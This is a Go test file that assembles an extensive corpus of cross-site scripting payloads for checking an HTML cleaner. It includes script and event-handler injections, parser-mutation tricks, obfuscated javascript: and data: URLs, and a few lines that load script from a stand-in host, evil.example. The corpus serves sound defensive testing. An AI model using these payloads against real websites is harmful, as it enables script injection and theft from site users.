package normalize_test

import "strings"

// attacks is our own collection of ways to smuggle something active past a cleaner:
// every kind that is known, each in a few spellings.
var attacks = func() []string {
	list := []string{
		// scripts and what looks like them
		"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=x></script/x>", "<script\n>alert(1)</script\t>",
		"<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<script>alert(1)", "<script <b>>alert(1)</script>",
		"<b><script>alert(1)</script></b>", "&lt;script&gt;alert(1)&lt;/script&gt;<b>", "<script>/*", "<scrip\x00t>alert(1)</scrip\x00t>", "<ſcript>alert(1)</ſcript>",
		"<script xlink:href='x'/>", "</script><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<!--<script>-->alert(1)<!--</script>-->",
		"<!--><script>alert(1)</script>-->", "<!--- --!><script>alert(1)</script>", "<!doctype><script>alert(1)</script>", "<?xml version='1.0'?><script>alert(1)</script>",
		"<?php <script>alert(1)</script>?>", "</<script>alert(1)</script>", "<a<script>alert(1)</script>",
		// raw text elements and changes of the parser's mind
		"<style>@import 'javascript:alert(1)';</style>", "<style><!--</style><script>alert(1)</script>--></style>", "<title><b></title><script>alert(1)</script></b></title>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
		"<xmp><p title=\"</xmp><script>alert(1)</script>\">", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
		"<noframes><p title='</noframes><script>alert(1)</script>'></noframes>", "<iframe><img title='</iframe><script>alert(1)</script>'></iframe>",
		"<plaintext><script>alert(1)</script>", "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>", "<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp>",
		"<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math href='javascript:alert(1)'>x</math>",
		"<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
		"<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
		"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,x#x'/></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
		"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'>",
		"<table><svg><desc><td><script>alert(1)</script>", "<select><noembed></select><script>alert(1)</script>", "<template><script>alert(1)</script></template>",
		"<select><template><img src=x onerror=alert(1)></template></select>", "<d><svg><style><p title=\"</style><img src onerror=alert(1)>\">",
		"<p><svg><p><style><a title=\"</style><img src onerror=alert(1)>\">", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
		// frames, plug-ins, forms, documents
		"<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
		"<object data='javascript:alert(1)'></object>", "<object type='text/x-scriptlet' data='//evil.example/'></object>", "<embed src='javascript:alert(1)'>",
		"<embed src='data:image/svg+xml;base64,PHN2Zz4='>", "<applet code=x archive=y></applet>", "<form action=javascript:alert(1)><button>x</button></form>",
		"<button formaction=javascript:alert(1)>x</button>", "<input type=image src=x onerror=alert(1)>", "<isindex action=javascript:alert(1) type=image>",
		"<base href='javascript:alert(1);//'>", "<link rel=stylesheet href='javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
		"<meta charset='x-imap4-modified-utf7'>&ADz&AGn", "<bgsound src='javascript:alert(1)'>", "<layer src='//evil.example/'></layer>", "<ilayer src=x>",
		"<xml src=x><script>alert(1)</script></xml>", "<xss onclick=alert(1)>x</xss>", "<marquee onstart=alert(1)>x</marquee>", "<keygen autofocus onfocus=alert(1)>",
		"<details ontoggle=alert(1) open>x</details>", "<portal src=javascript:alert(1)></portal>", "<dialog open onclose=alert(1)>x</dialog>",
		"<body onload=alert(1)>x", "<html onmouseover=alert(1)>x", "<body background='javascript:alert(1)'>x", "<head><base href=//evil.example/></head>",
		"<video><source onerror=alert(1)></video>", "<video poster=javascript:alert(1)></video>", "<audio src=javascript:alert(1)>", "<audio src=x onerror=alert(1)>",
		"<video src='data:video/mp4,x'></video>", "<map><area href=javascript:alert(1)></map>", "<img usemap=#x src=x>", "<picture><source srcset='javascript:alert(1)'><img src=x></picture>",
		"<img srcset='javascript:alert(1) 1x, data:x 2x' src=x>", "<img srcset=',,, javascript:alert(1)' src=x>", "<track src=javascript:alert(1)>",
		// style
		"<p style='background:url(javascript:alert(1))'>x", "<p style='width: expression(alert(1))'>x", "<p style=\"-moz-binding:url(//evil.example/x.xml#x)\">x",
		"<div style='behavior:url(x.htc)'>x</div>", "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x", "<p style='exp/*x*/ression(alert(1))'>",
		"<p style='background:\\75rl(javascript:alert(1))'>", "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</table>",
		// attributes out of shape
		"<img src=x onerror=alert(1)//", "<img src='x'onerror='alert(1)'>", "<img/src=x/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
		"<img src=\"x\" alt=\"``onerror=alert(1)\">", "<a title='\"><script>alert(1)</script>'>x</a>", "<a title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" href=x>x</a>",
		"<p title='x' title='\" onclick=\"alert(1)'>x", "<img alt=\"<x\" title=\"/><img src=1 onerror=alert(1)>\" src=x>", "<a href=x onclick\n=\nalert(1)>x</a>", "<img =x onerror=alert(1) src=y>",
		"<img src=x\fonerror=alert(1)>", "<img src=x\x0bonerror=alert(1)>", "<p lang='\"><script>alert(1)</script>'>x", "<p dir='rtl\" onclick=\"alert(1)'>x", "<q cite='javascript:alert(1)'>x</q>",
		"<blockquote cite=' JaVaScRiPt:alert(1)'>x</blockquote>", "<del cite='vbscript:x' datetime='\"onclick=x'>x</del>", "<td colspan='1\" onclick=alert(1)'>", "<ol start='x:expression(alert(1))'>",
		"<a target=_blank ping=//evil.example/ href=x>x</a>", "<img width='1\" onerror=\"alert(1)' src=x>", "<time datetime='<script>'>x</time>", "<a href=\"https://x.example/\"onclick=alert(1)>x",
		"<a href='https://x.example/?\"><script>alert(1)</script>'>x</a>", "<img src='https://x.example/\" onerror=\"alert(1)'>",
	}
	// addresses that run something, in every attribute that has one
	schemes := []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
		"java\x00script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
		"java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)", "&#xA0;javascript:alert(1)", "\u2028javascript:alert(1)", "javascript\u200b:alert(1)",
		"javascript://%0aalert(1)", "javascript:/**/alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)!", "mocha:alert(1)", "livescript:alert(1)",
		"vbscript:msgbox(1)", "VBScript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "data:,x",
		"file:///etc/passwd", "FILE://server/share", "blob:https://x.example/1", "filesystem:https://x.example/1", "about:blank", "chrome://settings", "resource://x", "mhtml:file://x", "wyciwyg://x",
		"ms-its:x", "intent://x#Intent;end", "tel:+123", "ftp://x.example/", "cid:x", "//", "///", "http://", "https://", "http:javascript:alert(1)", "https:alert(1)", "\\\\evil\\x", "&amp;#106;avascript:alert(1)",
	}
	for _, s := range schemes {
		q := strings.ReplaceAll(s, `"`, "&quot;")
		list = append(list, `<a href="`+q+`">x</a>`, `<img src="`+q+`">`, `<video src="`+q+`" poster="`+q+`"></video>`, `<q cite="`+q+`">x</q>`,
			`<img src="x" srcset="`+q+` 1x">`, `<a href='`+strings.ReplaceAll(s, "'", "&#39;")+`'>x</a>`)
	}
	// every event handler, on elements that stay
	for _, on := range strings.Fields(`onabort onafterprint onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle onblur oncanplay onchange onclick
		oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondrop onended onerror onfocus onfocusin onhashchange oninput oninvalid onkeydown onload onloadstart
		onmessage onmousedown onmouseenter onmouseover onmousewheel onpageshow onpaste onplay onpointerdown onpopstate onprogress onreset onresize onscroll onsearch
		onseeked onselect onshow onstalled onsubmit ontoggle ontouchstart ontransitionend onunhandledrejection onvolumechange onwheel FSCommand onPropertyChange`) {
		list = append(list, "<p "+on+"=alert(1)>x</p>", "<img src=x.jpg "+strings.ToUpper(on)+" = 'alert(1)'>", "<a href=x /"+on+"=\"alert(1)\">x</a>", "<b\n"+on+"=alert(1)>x</b>")
	}
	return list
}()
